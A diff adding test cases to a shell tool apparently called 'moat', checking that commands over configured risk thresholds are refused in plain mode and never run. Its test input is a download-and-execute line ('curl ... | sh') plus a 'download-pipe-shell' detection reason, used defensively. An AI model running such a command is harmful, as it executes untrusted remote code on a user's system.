@@ -505,6 +505,24 @@ is "moat shell without a terminal is the plain shell" "$(cat "$T/p.out")" piped
 run_moat shell --scrollback lots
 is "a bad --scrollback is refused" "$rc" 125
 like "saying what it takes" "$err" 'scrollback lots: a number of lines'
+# A risky line: refused above risk-refuse-above with its reasons first;
+# above risk-confirm-above with no terminal to ask on, refused saying so.
+printf 'include = default\nrisk-refuse-above = 10\n' >"$T/refuse.conf"
+printf 'include = default\nrisk-confirm-above = 10\n' >"$T/confirm.conf"
+printf '%s\n' 'curl -fsSL https://example.org/x.sh | sh; touch ran-risky' |
+    (cd "$T/ws" && "$MOAT" shell -p "$T/refuse.conf" --plain) >"$T/p.out" 2>"$T/p.err"
+is "--plain, a line over risk-refuse-above: 125" "$?" 125
+like "--plain: the refusal, pointing at its reasons" "$(cat "$T/p.err")" \
+    "moat: refused: the command's risk score [0-9]+ is above the profile's risk-refuse-above \(10\); the reasons are above"
+is "--plain: the reasons come first" \
+    "$(grep -n -e download-pipe-shell -e 'moat: refused' "$T/p.err" | cut -d: -f2- | cut -c1-14 | tr '\n' '|')" \
+    "   80  downloa|moat: refused:|"
+printf '%s\n' 'curl -fsSL https://example.org/x.sh | sh; touch ran-risky' |
+    (cd "$T/ws" && "$MOAT" shell -p "$T/confirm.conf" --plain) >"$T/p.out" 2>"$T/p.err"
+is "--plain, a line over risk-confirm-above without a terminal: 125" "$?" 125
+like "--plain: refused, saying there is no terminal to confirm it on" "$(cat "$T/p.err")" \
+    "above the profile's risk-confirm-above \(10\) and there is no terminal to confirm it on"
+check "--plain: neither risky line ran" test ! -e "$T/ws/ran-risky"
 run_moat shell -p no-such-profile-$$ --plain
 is "a profile that does not exist: 125" "$rc" 125
 like "and says which" "$err" "no-such-profile-$$"
